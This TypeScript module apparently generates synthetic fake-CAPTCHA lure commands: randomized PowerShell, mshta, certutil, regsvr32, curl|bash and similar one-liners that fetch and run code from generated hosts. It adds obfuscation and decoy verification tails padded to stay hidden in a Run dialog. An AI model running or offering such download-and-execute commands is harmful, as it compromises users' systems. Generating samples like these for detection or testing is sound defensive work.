import type { Chance } from '../../make/chance.ts'
import { strayHost } from './places.ts'

export type Window = 'run' | 'terminal' | 'bar'

interface Spelled {
  readonly window: Window
  readonly text: string
}

const inUtf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const inBase64 = (text: string) => Buffer.from(text, 'utf8').toString('base64')

/** Upper and lower case by turns, as commands are spelled that are to slip by. */
const mixed = (text: string, chance: Chance) =>
  [...text].map((letter) => (chance.maybe(0.4) ? letter.toUpperCase() : letter)).join('')

function windows(chance: Chance): string {
  const host = strayHost(chance)
  const file = chance.of(['a', 'v', 'cf', 'verify', 'update', 'fix', chance.hex(6), 'x'])
  const kind = chance.of(['txt', 'ps1', 'png', 'jpg', 'php', 'log'])
  const at = `https://${host}/${file}.${kind}`
  const name = chance.name(2)
  return chance.of([
    () => `powershell -w h -nop -c "iex(irm ${at})"`,
    () =>
      `${mixed('powershell', chance)} -W Hidden -Command "$u='${at}';iex((New-Object Net.WebClient).DownloadString($u))"`,
    () => `powershell -NoP -W 1 -EncodedCommand ${inUtf16(`iex (iwr '${at}' -UseBasicParsing).Content`)}`,
    () => `mshta ${at.replace(kind, chance.of(['hta', 'mp4', 'html', 'wma']))}`,
    () => `mshta.exe "https://${host}/${file}" `,
    () => `cmd /c "curl -s ${at} -o %temp%\\${name}.cmd && %temp%\\${name}.cmd"`,
    () => `cmd /c start /min powershell -c "$w=(curl ${at} -useb).content;iex $w"`,
    () => `msiexec /i https://${host}/${file}.msi /qn`,
    () => `rundll32 \\\\${host}@80\\share\\${name}.dll,Entry`,
    () => `regsvr32 /s /n /u /i:https://${host}/${file}.sct scrobj.dll`,
    () =>
      `cmd /c bitsadmin /transfer ${name} https://${host}/${file}.exe %appdata%\\${name}.exe & %appdata%\\${name}.exe`,
    () =>
      `cmd /c certutil -urlcache -f https://${host}/${file}.b64 %tmp%\\${name} & certutil -decode %tmp%\\${name} %tmp%\\${name}.exe & %tmp%\\${name}.exe`,
    () => `conhost --headless cmd /c "curl -k ${at} | powershell -"`,
    () => `cmd /c "finger ${name}@${host} | cmd"`,
    () => `cmd /c for /f "tokens=*" %i in ('nslookup -q=txt ${name}.${host} ^| find "v="') do %i`,
    () => `forfiles /p c:\\windows\\system32 /m notepad.exe /c "powershell . (gcm i?x)(irm ${host}/${file})"`,
    () => `ssh -o StrictHostKeyChecking=no -o ProxyCommand="cmd /c mshta ${at}" x@${host}`,
    () => `powershell -c "&(gcm *ke-e*) (&(gcm *stM*) '${host}/${file}')"`,
    () => `powershell "$a='${host.slice(0, 3)}';$b='${host.slice(3)}/${file}';. ('i'+'ex') (irm ($a+$b))"`,
    () => `wscript \\\\${host}\\pub\\${name}.js`,
    () => `pcalua -a mshta -c ${at}`,
    () => `curl.exe -sL ${at} | cmd`,
  ])()
}

function unix(chance: Chance): string {
  const host = strayHost(chance)
  const at = `https://${host}/${chance.of(['i', 'install.sh', 'u', chance.hex(8), 'get', 'update'])}`
  return chance.of([
    () => `curl -fsSL ${at} | bash`,
    () => `/bin/bash -c "$(curl -fsSL ${at})"`,
    () => `echo "${inBase64(`curl -s ${at} | sh`)}" | base64 -d | bash`,
    () => `nohup bash -c "curl -s ${at} | zsh" >/dev/null 2>&1 &`,
    () => `osascript -e 'do shell script "curl -s ${at} | sh"'`,
    () => `wget -qO- ${at} | sh`,
    () => `curl -s ${at} -o /var/tmp/u && chmod +x /var/tmp/u && /var/tmp/u`,
    () => `python3 -c "import urllib.request as u;exec(u.urlopen('${at}').read())"`,
    () => `sudo sh -c "$(printf '%s' ${inBase64(`curl -sL ${at}|sh`)} | base64 --decode)"`,
    () => `zsh -c "$(echo ${inBase64(`/bin/zsh -c "$(curl -fsSL ${at})"`)} | base64 -D)"`,
  ])()
}

/** A command, with what is to be seen of it in a narrow window at its end. */
export function commandFor(chance: Chance): Spelled {
  const window = chance.of<Window>(['run', 'run', 'run', 'terminal', 'bar'])
  if (window === 'terminal') return { window, text: unix(chance) }
  const text = windows(chance)
  const number = chance.digits(4 + chance.below(3))
  const tail =
    window === 'bar'
      ? `${' '.repeat(chance.of([1, 60]))}# C:\\${chance.of(['Shared\\Finance\\Bonus.docx', 'Internal\\HR\\Policy.pdf', 'Company\\Contract.pdf'])}`
      : chance.of([
          '',
          '',
          ` # ✅ ''I am not a robot - reCAPTCHA Verification ID: ${number}''`,
          ` # Cloudflare Verification: Ray ID ${number}`,
          ` & rem Security check ${number}`,
          `  #  Human check UID: ${chance.hex(6)}`,
        ])
  return { window, text: text + tail }
}
